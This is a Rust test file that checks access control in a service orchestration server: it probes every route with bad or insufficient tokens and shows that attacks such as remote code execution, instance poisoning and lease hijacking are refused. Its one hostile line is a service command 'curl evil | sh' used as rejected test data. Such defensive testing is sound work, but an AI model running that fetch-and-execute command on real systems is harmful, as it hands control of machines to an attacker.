//! Access control as an attacker meets it (issue 15): every documented
//! route refuses callers without the right, and each attack the issue
//! found on an open server fails now, leaving the store as it was.

use std::collections::BTreeMap;
use std::time::Duration;

use futures::StreamExt;
use gantry_api::{
    Access, AgentIdentity, ErrorCode, Group, Health, Instance, Machine, Policy, Rule, ServiceControl, TokenRequest,
};
use gantry_client::{Client, PutOptions, WatchItem};
use reqwest::Method;

use super::TestServer;
use super::openapi::{body, document, fill};

/// The fleet the attacks are tried on: machine m1 (group api, federation
/// blue) runs api, which requires a datastore; m2 (group web, federation
/// green) runs green's www.
pub(crate) async fn fleet(s: &TestServer) {
    let c = &s.client;
    let put = |id: &str, json: serde_json::Value| {
        let definition: gantry_api::ServiceDefinition = serde_json::from_value(json).unwrap();
        let c = c.clone();
        let id = id.to_owned();
        async move {
            assert_eq!(definition.id, id);
            c.put_service(&definition).await.unwrap();
        }
    };
    put(
        "api",
        serde_json::json!({"id": "api", "federation": "blue", "environment": {"PORT": 1100},
        "requires": {"DB": "{BLUE_DB}"}, "provides": {"API_URL": "http://{HOST}:{PORT}"}, "local_port": 1100}),
    )
    .await;
    put(
        "www",
        serde_json::json!({"id": "www", "federation": "green", "environment": {"PORT": 8080},
        "requires": {"DB": "{GREEN_DB}"}}),
    )
    .await;
    c.put_group(&Group { name: "api".into(), run_list: vec![], services: vec!["api".into()] }).await.unwrap();
    c.put_group(&Group { name: "web".into(), run_list: vec![], services: vec!["www".into()] }).await.unwrap();
    c.kv_put("datastores/BLUE_DB", "mysql://blue:secret@db/blue", PutOptions::default()).await.unwrap();
    c.kv_put("datastores/GREEN_DB", "mysql://green:secret@db/green", PutOptions::default()).await.unwrap();
    for (id, address, group) in [("m1", "127.0.0.2", "api"), ("m2", "127.0.0.3", "web")] {
        c.put_machine(&machine(id, address, group), PutOptions::default()).await.unwrap();
    }
    c.put_instance(&instance("api", "m1", "127.0.0.2", "blue"), PutOptions::default()).await.unwrap();
    c.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
}

fn machine(id: &str, address: &str, group: &str) -> Machine {
    Machine {
        id: id.into(),
        hostname: id.into(),
        address: address.into(),
        facts: Default::default(),
        labels: BTreeMap::from([("group".into(), group.into())]),
        updated_at: 0,
        capacity: None,
    }
}

fn instance(service: &str, machine: &str, address: &str, federation: &str) -> Instance {
    Instance {
        service: service.into(),
        id: machine.into(),
        machine: machine.into(),
        address: address.into(),
        port: 1100,
        properties: BTreeMap::new(),
        health: Health::Passing,
        federation: federation.into(),
        public: false,
        provides: BTreeMap::new(),
    }
}

/// A new token of `request`, as a client.
async fn token(s: &TestServer, request: TokenRequest) -> Client {
    let created = s.client.create_token(&request).await.unwrap();
    Client::new(&s.url).with_token(&created.secret)
}

pub(crate) async fn agent(s: &TestServer, machine: &str, federation: &str) -> Client {
    let identity = AgentIdentity { machine: machine.into(), federation: federation.into(), services: vec![] };
    token(s, TokenRequest { name: format!("agent {machine}"), agent: Some(identity), ..Default::default() }).await
}

pub(crate) async fn read_only(s: &TestServer) -> Client {
    let policy = Policy {
        name: "read-only".into(),
        description: "everything but secrets".into(),
        rules: vec![
            Rule { prefix: String::new(), access: Access::Read },
            Rule { prefix: "kv/datastores/".into(), access: Access::Deny },
            Rule { prefix: "acl/".into(), access: Access::Deny },
        ],
        federations: vec![],
    };
    s.client.put_policy(&policy).await.unwrap();
    token(s, TokenRequest { name: "auditor".into(), policies: vec!["read-only".into()], ..Default::default() }).await
}

pub(crate) fn code(result: Result<impl std::fmt::Debug, gantry_client::ClientError>) -> Option<ErrorCode> {
    result.err().and_then(|e| e.code())
}

/// Every documented operation, asked without a token, with an unknown one,
/// with a revoked one, with a read-only one, and with an agent's token of
/// a machine the path is not about: each gets its 401 or 403 (or, where
/// the caller may, an answer), and none of the refused requests changes
/// the store.
#[tokio::test]
async fn every_route_refuses_callers_without_the_right() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    let lease = s.client.grant_lease(Duration::from_secs(60)).await.unwrap().id;
    let victim = s
        .client
        .create_token(&TokenRequest {
            name: "victim".into(),
            policies: vec!["management".into()],
            ..Default::default()
        })
        .await
        .unwrap();
    let revoked = s
        .client
        .create_token(&TokenRequest { name: "gone".into(), policies: vec!["management".into()], ..Default::default() })
        .await
        .unwrap();
    s.client.revoke_token(&revoked.token.accessor).await.unwrap();
    let read_only_secret = {
        read_only(&s).await;
        s.client
            .create_token(&TokenRequest { name: "ro".into(), policies: vec!["read-only".into()], ..Default::default() })
            .await
            .unwrap()
            .secret
    };
    // An agent of m2 (green): the paths below are about m1 (blue).
    let m2 = s
        .client
        .create_token(&TokenRequest {
            agent: Some(AgentIdentity { machine: "m2".into(), federation: "green".into(), services: vec![] }),
            ..Default::default()
        })
        .await
        .unwrap()
        .secret;
    let http = reqwest::Client::new();
    let before = s.client.health().await.unwrap().revision;
    let doc = document();
    let mut refused = 0;
    for (template, item) in doc["paths"].as_object().unwrap() {
        for method in [Method::GET, Method::PUT, Method::POST, Method::DELETE] {
            if item.get(method.as_str().to_lowercase()).is_none() {
                continue;
            }
            let open = matches!(template.as_str(), "/v1/health" | "/v1/openapi.json");
            let url = format!("{}{}", s.url, fill(template, &lease, &victim.token.accessor));
            let ask = |token: Option<&str>| {
                let mut request = http.request(method.clone(), &url).body(body(&method, template));
                if let Some(token) = token {
                    request = request.bearer_auth(token);
                }
                request.send()
            };
            for (who, token) in [
                ("no token", None),
                ("an unknown token", Some("0".repeat(64))),
                ("a revoked token", Some(revoked.secret.clone())),
            ] {
                let response = ask(token.as_deref()).await.unwrap();
                let status = response.status().as_u16();
                // Health answers anyone without a token (balancers ask it);
                // a token it does not know is still refused there.
                if template == "/v1/openapi.json" || (template == "/v1/health" && token.is_none()) {
                    assert!(status < 400, "{method} {template} with {who}: {status}");
                    continue;
                }
                let error: gantry_api::ErrorBody = response.json().await.unwrap();
                assert_eq!(
                    (status, error.error.code),
                    (401, ErrorCode::Unauthorized),
                    "{method} {template} with {who}"
                );
                refused += 1;
            }
            // Read-only: no write anywhere; no secret, no token, ever.
            let response = ask(Some(&read_only_secret)).await.unwrap();
            let status = response.status().as_u16();
            let writes = method != Method::GET;
            let secret_read = template.starts_with("/v1/acl/tokens")
                || template == "/v1/acl/policies"
                || template.starts_with("/v1/acl/policies/");
            if !open && template != "/v1/acl/self" && (writes || secret_read) {
                assert_eq!(status, 403, "{method} {template} with a read-only token");
                refused += 1;
            }
            // m2's agent, on m1's things and the operators' routes.
            // What an agent may write at all: leases, its machine, its status, its instances.
            let agents_write = template == "/v1/leases"
                || template.starts_with("/v1/leases/")
                || template == "/v1/machines/{id}"
                || template == "/v1/agents/{machine}/status"
                || template == "/v1/agents/{machine}/usage"
                || template == "/v1/services/{service}/instances/{id}";
            let operator_only = writes && !agents_write;
            let about_m1 = template.contains("{machine}")
                || template == "/v1/machines/{id}"
                || template.contains("/instances/{id}");
            if !open && (operator_only || (writes && about_m1)) {
                let status = ask(Some(&m2)).await.unwrap().status().as_u16();
                assert_eq!(status, 403, "{method} {template} with m2's agent token");
                refused += 1;
            }
        }
    }
    assert!(refused > 100, "only {refused} refusals were checked");
    assert_eq!(s.client.health().await.unwrap().revision, before, "a refused request changed the store");
}

/// Issue 15's attacks, each refused, each leaving the store as it was.
#[tokio::test]
async fn the_attacks_found_on_an_open_server_all_fail() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    let anonymous = Client::new(&s.url);
    let m1 = agent(&s, "m1", "blue").await;
    let m2 = agent(&s, "m2", "green").await;
    let before = s.client.health().await.unwrap().revision;

    // Remote code execution: a new command for api on every node running it.
    let evil: gantry_api::ServiceDefinition =
        serde_json::from_value(serde_json::json!({"id": "api", "command": "curl evil | sh"})).unwrap();
    assert_eq!(code(anonymous.put_service(&evil).await), Some(ErrorCode::Unauthorized));
    assert_eq!(code(m1.put_service(&evil).await), Some(ErrorCode::Forbidden));
    // on_delete everywhere: delete a group.
    assert_eq!(code(anonymous.delete_group("api").await), Some(ErrorCode::Unauthorized));
    assert_eq!(code(m2.delete_group("api").await), Some(ErrorCode::Forbidden));
    // Reading datastores: nothing without a token; an agent only what its
    // services require.
    assert_eq!(code(anonymous.kv_list("datastores/").await), Some(ErrorCode::Unauthorized));
    let seen = m1.kv_list("datastores/").await.unwrap();
    assert_eq!(seen.entries.iter().map(|e| e.key.as_str()).collect::<Vec<_>>(), ["datastores/BLUE_DB"]);
    assert_eq!(code(m1.kv_get("datastores/GREEN_DB").await), Some(ErrorCode::Forbidden));
    assert_eq!(code(read_only(&s).await.kv_get("datastores/BLUE_DB").await), Some(ErrorCode::Forbidden));
    // Lease guessing: m1's lease cannot be renewed or revoked by another.
    let lease = m1.grant_lease(Duration::from_secs(60)).await.unwrap();
    m1.put_machine(&machine("m1", "127.0.0.2", "api"), PutOptions { lease: Some(lease.id.clone()), cas: None })
        .await
        .unwrap();
    assert_eq!(code(m2.revoke_lease(&lease.id).await), Some(ErrorCode::Forbidden));
    assert_eq!(code(m2.keep_alive(&lease.id).await), Some(ErrorCode::Forbidden));
    assert_eq!(code(anonymous.revoke_lease(&lease.id).await), Some(ErrorCode::Unauthorized));
    assert!(s.client.machine("m1").await.is_ok(), "m1 is still in the inventory");
    // Instance poisoning: m2 registering api (which it does not run), or
    // an instance at another address, or as m1.
    for poisoned in [
        instance("api", "m2", "127.0.0.3", "blue"),
        instance("www", "m2", "10.6.6.6", "green"),
        instance("api", "m1", "127.0.0.2", "blue"),
    ] {
        assert_eq!(
            code(m2.put_instance(&poisoned, PutOptions::default()).await),
            Some(ErrorCode::Forbidden),
            "{poisoned:?}"
        );
    }
    // Its own instance, at its own address, of the service it runs: fine.
    m2.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
    // Control forgery: stopping api on m1, even by m1's own agent.
    let stop = ServiceControl { running: false, restart: None };
    for forger in [&m2, &m1] {
        assert_eq!(code(forger.put_service_control("m1", "api", &stop).await), Some(ErrorCode::Forbidden));
    }
    assert_eq!(code(m2.put_agent_status(&status("m1"), PutOptions::default()).await), Some(ErrorCode::Forbidden));
    // Usage: its own only (the scheduler reads it beside what it placed).
    assert_eq!(code(m2.put_usage(&usage("m1"), PutOptions::default()).await), Some(ErrorCode::Forbidden));
    m1.put_usage(&usage("m1"), PutOptions::default()).await.unwrap();
    assert_eq!(code(anonymous.usages().await), Some(ErrorCode::Unauthorized));
    // Cross-federation reads: green's agent sees green's only.
    let services: Vec<String> = m2.services().await.unwrap().items.into_iter().map(|d| d.id).collect();
    assert_eq!(services, ["www"]);
    let instances = m2.instances_with(&[]).await.unwrap().items;
    assert!(instances.iter().all(|i| i.federation == "green"), "{instances:?}");
    assert_eq!(code(m2.kv_get("datastores/BLUE_DB").await), Some(ErrorCode::Forbidden));
    assert_eq!(code(m2.lookup("api", &[]).await).map(|c| c == ErrorCode::NotFound), Some(true));
    // Nothing refused was stored.
    let api = s.client.services().await.unwrap().items.into_iter().find(|d| d.id == "api").unwrap();
    assert_eq!(api.command, None, "api's definition is the operator's");
    assert!(s.client.group("api").await.unwrap().is_some());
    assert_eq!(s.client.service_control("m1", "api").await.unwrap(), None);
    assert_eq!(s.client.agent_status("m1").await.unwrap(), None);
    let api_hosts: Vec<String> =
        s.client.service_instances("api", &[]).await.unwrap().items.into_iter().map(|i| i.id).collect();
    assert_eq!(api_hosts, ["m1"]);
    let m1_instance = s.client.service_instances("api", &[]).await.unwrap().items.remove(0);
    assert_eq!(m1_instance.address, "127.0.0.2");
    let _ = before;
}

/// What a node runs comes from its group, the scheduler and its token, never
/// from what its agent says: a node that claims `api` in its status neither
/// registers an api instance (and draws api's traffic) nor reads api's
/// datastores. Its token naming `api` (`acl:token:create --agent m3
/// --service api`, for `gantry agent --service api`) grants both.
#[tokio::test]
async fn a_service_an_agent_claims_to_run_grants_it_nothing() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    s.client.put_machine(&machine("m3", "127.0.0.4", "none"), PutOptions::default()).await.unwrap();
    let m3 = agent(&s, "m3", "blue").await;
    let claim: gantry_api::AgentStatus =
        serde_json::from_value(serde_json::json!({"machine": "m3", "services": ["api"], "updated_at_ms": 1})).unwrap();
    m3.put_agent_status(&claim, PutOptions::default()).await.unwrap();
    let api_here = instance("api", "m3", "127.0.0.4", "blue");
    assert_eq!(code(m3.put_instance(&api_here, PutOptions::default()).await), Some(ErrorCode::Forbidden));
    assert_eq!(code(m3.kv_get("datastores/BLUE_DB").await), Some(ErrorCode::Forbidden));
    let hosts = s.client.service_instances("api", &[]).await.unwrap().items;
    assert_eq!(hosts.iter().map(|i| i.id.as_str()).collect::<Vec<_>>(), ["m1"], "nothing was registered");

    let identity = AgentIdentity { machine: "m3".into(), federation: "blue".into(), services: vec!["api".into()] };
    let named = token(&s, TokenRequest { name: "agent m3".into(), agent: Some(identity), ..Default::default() }).await;
    named.put_instance(&api_here, PutOptions::default()).await.unwrap();
    assert_eq!(
        named.kv_get("datastores/BLUE_DB").await.unwrap().map(|e| e.value).as_deref(),
        Some("mysql://blue:secret@db/blue")
    );
}

/// Scheduled work (issue 16): the scheduler's documents are written by no
/// agent; an agent reads its own node's allocations only, and registers an
/// instance under an allocation's id only where that allocation was placed.
#[tokio::test]
async fn agents_read_their_own_allocations_and_register_only_what_was_placed_on_them() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    let anonymous = Client::new(&s.url);
    let m1 = agent(&s, "m1", "blue").await;
    let m2 = agent(&s, "m2", "green").await;
    let placed: gantry_api::Allocation = serde_json::from_value(serde_json::json!({
        "id": "api.0.9", "service": "api", "federation": "blue", "index": 0, "version": 1, "machine": "m1",
        "resources": {"cpu": 0.5, "memory_mb": 64}, "port": 20001, "desired": "run",
        "placement": {"reason": "new", "score": 0.5, "explanation": "binpack"}, "created_at_ms": 1}))
    .unwrap();
    // Only an operator (the scheduler writes the store directly) writes them.
    for forger in [&m1, &m2] {
        assert_eq!(code(forger.put_allocation(&placed).await), Some(ErrorCode::Forbidden));
    }
    assert_eq!(code(anonymous.put_allocation(&placed).await), Some(ErrorCode::Unauthorized));
    s.client.put_allocation(&placed).await.unwrap();
    // m1 reads its own; m2 neither m1's nor the whole list's items.
    assert_eq!(m1.node_allocations("m1").await.unwrap().items, std::slice::from_ref(&placed));
    assert_eq!(code(m2.node_allocations("m1").await), Some(ErrorCode::Forbidden));
    assert_eq!(code(m2.allocations().await), Some(ErrorCode::Forbidden));
    assert_eq!(code(anonymous.allocations().await), Some(ErrorCode::Unauthorized));
    // Drain and evaluations are the operators'.
    let drain = gantry_api::NodeEligibility { machine: "m1".into(), eligible: false, drain: true, updated_at_ms: 1 };
    assert_eq!(code(m1.put_eligibility(&drain).await), Some(ErrorCode::Forbidden));
    assert_eq!(code(m1.jobs().await), Some(ErrorCode::Forbidden));
    // A federation-scoped reader sees its federation's allocations only.
    let green = Policy {
        name: "green-reader".into(),
        description: String::new(),
        rules: vec![Rule { prefix: "allocs/".into(), access: Access::Read }],
        federations: vec!["green".into()],
    };
    s.client.put_policy(&green).await.unwrap();
    let reader =
        token(&s, TokenRequest { name: "green".into(), policies: vec![green.name], ..Default::default() }).await;
    assert_eq!(reader.allocations().await.unwrap().items, []);
    // m1 registers the allocation's instance (id = the allocation's, its
    // own address); m2 cannot claim it, and m1 cannot invent another.
    let mut mine = instance("api", "m1", "127.0.0.2", "blue");
    mine.id = placed.id.clone();
    mine.port = placed.port;
    m1.put_instance(&mine, PutOptions::default()).await.unwrap();
    let mut claimed = instance("api", "m2", "127.0.0.3", "blue");
    claimed.id = placed.id.clone();
    assert_eq!(code(m2.put_instance(&claimed, PutOptions::default()).await), Some(ErrorCode::Forbidden));
    let mut invented = mine.clone();
    invented.id = "api.7.9".into();
    assert_eq!(code(m1.put_instance(&invented, PutOptions::default()).await), Some(ErrorCode::Forbidden));
    // Stopped, the allocation no longer lets m1 register it.
    let stopped = gantry_api::Allocation { desired: gantry_api::DesiredState::Stop, ..placed };
    s.client.put_allocation(&stopped).await.unwrap();
    assert_eq!(code(m1.put_instance(&mine, PutOptions::default()).await), Some(ErrorCode::Forbidden));
}

fn usage(machine: &str) -> gantry_api::NodeUsage {
    serde_json::from_value(serde_json::json!({"machine": machine, "cpu": 0.2, "memory_mb": 100,
        "memory_total_mb": 1000, "cpus": 2, "load1": 0.0, "measured_at_ms": 1}))
    .unwrap()
}

fn status(machine: &str) -> gantry_api::AgentStatus {
    serde_json::from_value(serde_json::json!({"machine": machine, "services": [], "updated_at_ms": 1})).unwrap()
}

/// `GET /v1/prometheus/targets` (issue 18): the management token and a
/// token of a policy granting `prometheus/targets` read every target (one
/// limited to federations, only theirs); an agent's token, a token of
/// another policy and no token are refused.
#[tokio::test]
async fn prometheus_targets_are_for_operators_and_prometheus_never_agents() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    let mut api = s.client.services().await.unwrap().items.into_iter().find(|d| d.id == "api").unwrap();
    api.metrics = Some(gantry_api::MetricsSpec { path: "/stats".into() });
    s.client.put_service(&api).await.unwrap();
    let mut m1: gantry_api::AgentStatus = serde_json::from_value(serde_json::json!({
        "machine": "m1", "services": ["api"], "updated_at_ms": 1, "api": "https://127.0.0.2:4100",
        "lb": {"kind": "haproxy", "frontends": [], "exporter": "127.0.0.2:8405"}}))
    .unwrap();
    s.client.put_agent_status(&m1, PutOptions::default()).await.unwrap();
    // m2 runs www (no metrics declared) and no haproxy.
    m1.machine = "m2".into();
    m1.api = Some("https://127.0.0.3:4100".into());
    m1.lb = None;
    s.client.put_agent_status(&m1, PutOptions::default()).await.unwrap();

    let policy = Policy {
        name: "prometheus".into(),
        description: String::new(),
        rules: vec![Rule { prefix: "prometheus/targets".into(), access: Access::Read }],
        federations: vec![],
    };
    s.client.put_policy(&policy).await.unwrap();
    let prometheus = token(
        &s,
        TokenRequest { name: "prometheus".into(), policies: vec!["prometheus".into()], ..Default::default() },
    )
    .await;
    let expected = serde_json::json!([
        {"targets": ["127.0.0.2:4100"], "labels": {"job": "gantry-agent", "machine": "m1", "group": "api",
         "region": "", "federation": "default", "health": "passing", "__scheme__": "https", "__metrics_path__": "/metrics"}},
        {"targets": ["127.0.0.2:8405"], "labels": {"job": "gantry-haproxy", "machine": "m1", "group": "api",
         "region": "", "federation": "default", "health": "passing", "__scheme__": "http", "__metrics_path__": "/metrics"}},
        {"targets": ["127.0.0.3:4100"], "labels": {"job": "gantry-agent", "machine": "m2", "group": "web",
         "region": "", "federation": "default", "health": "passing", "__scheme__": "https", "__metrics_path__": "/metrics"}},
        {"targets": ["127.0.0.2:1100"], "labels": {"job": "gantry-service", "service": "api", "instance_id": "m1",
         "machine": "m1", "group": "api", "region": "", "federation": "blue", "health": "passing",
         "__scheme__": "http", "__metrics_path__": "/stats"}},
    ]);
    for (who, client) in [("management", &s.client), ("prometheus", &prometheus)] {
        let targets = client.prometheus_targets().await.unwrap();
        assert_eq!(serde_json::to_value(&targets).unwrap(), expected, "{who}");
    }
    // A policy limited to federation blue sees blue's targets only.
    let blue = Policy { name: "prometheus-blue".into(), federations: vec!["blue".into()], ..policy.clone() };
    s.client.put_policy(&blue).await.unwrap();
    let blue_only = token(
        &s,
        TokenRequest { name: "prometheus-blue".into(), policies: vec!["prometheus-blue".into()], ..Default::default() },
    )
    .await;
    let seen = serde_json::to_value(blue_only.prometheus_targets().await.unwrap()).unwrap();
    assert_eq!(seen, serde_json::json!([expected[3]]), "blue's api instance only");
    // An instance that stops passing leaves the targets.
    let mut failing = instance("api", "m1", "127.0.0.2", "blue");
    failing.health = Health::Failing;
    s.client.put_instance(&failing, PutOptions::default()).await.unwrap();
    let targets = prometheus.prometheus_targets().await.unwrap();
    assert_eq!(targets.len(), 3, "{targets:?}");
    assert!(targets.iter().all(|t| t.labels["job"] != "gantry-service"), "{targets:?}");

    // Who may not: an agent (even of a machine in the list), a policy
    // without the rule, no token.
    let m1_agent = agent(&s, "m1", "blue").await;
    assert_eq!(code(m1_agent.prometheus_targets().await), Some(ErrorCode::Forbidden));
    let reader = read_only(&s).await;
    let kv_only = Policy {
        name: "kv-reader".into(),
        description: String::new(),
        rules: vec![Rule { prefix: "kv/".into(), access: Access::Read }],
        federations: vec![],
    };
    s.client.put_policy(&kv_only).await.unwrap();
    let kv_reader =
        token(&s, TokenRequest { name: "kv".into(), policies: vec!["kv-reader".into()], ..Default::default() }).await;
    assert_eq!(code(kv_reader.prometheus_targets().await), Some(ErrorCode::Forbidden));
    assert_eq!(code(Client::new(&s.url).prometheus_targets().await), Some(ErrorCode::Unauthorized));
    // The read-only operator (empty prefix: everything) may read it.
    assert_eq!(reader.prometheus_targets().await.unwrap().len(), 3);
    // Prometheus' token reads nothing else.
    assert_eq!(code(prometheus.machines().await), Some(ErrorCode::Forbidden));
}

/// A watch shows its caller only the events it may read: another
/// federation's instances and another node's datastores never arrive.
#[tokio::test]
async fn watches_carry_only_what_the_caller_may_read() {
    let s = TestServer::embedded_with_acl().await;
    fleet(&s).await;
    let m2 = agent(&s, "m2", "green").await;
    let revision = s.client.health().await.unwrap().revision;
    let instances = m2.watch("instances/", revision + 1, None).await.unwrap();
    let datastores = m2.watch("kv/datastores/", revision + 1, None).await.unwrap();
    s.client.put_instance(&instance("api", "m1", "127.0.0.2", "blue"), PutOptions::default()).await.unwrap();
    s.client.kv_put("datastores/BLUE_DB", "mysql://blue:rotated@db/blue", PutOptions::default()).await.unwrap();
    s.client.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
    s.client.kv_put("datastores/GREEN_DB", "mysql://green:rotated@db/green", PutOptions::default()).await.unwrap();
    // Blue's changes came first; each stream's first event is green's.
    assert_eq!(first_key(instances).await, "instances/www/m2");
    assert_eq!(first_key(datastores).await, "kv/datastores/GREEN_DB");
}

async fn first_key(stream: impl futures::Stream<Item = Result<WatchItem, gantry_client::ClientError>>) -> String {
    futures::pin_mut!(stream);
    match tokio::time::timeout(Duration::from_secs(5), stream.next()).await {
        Ok(Some(Ok(WatchItem::Event { event, .. }))) => event.key,
        other => panic!("{other:?}"),
    }
}
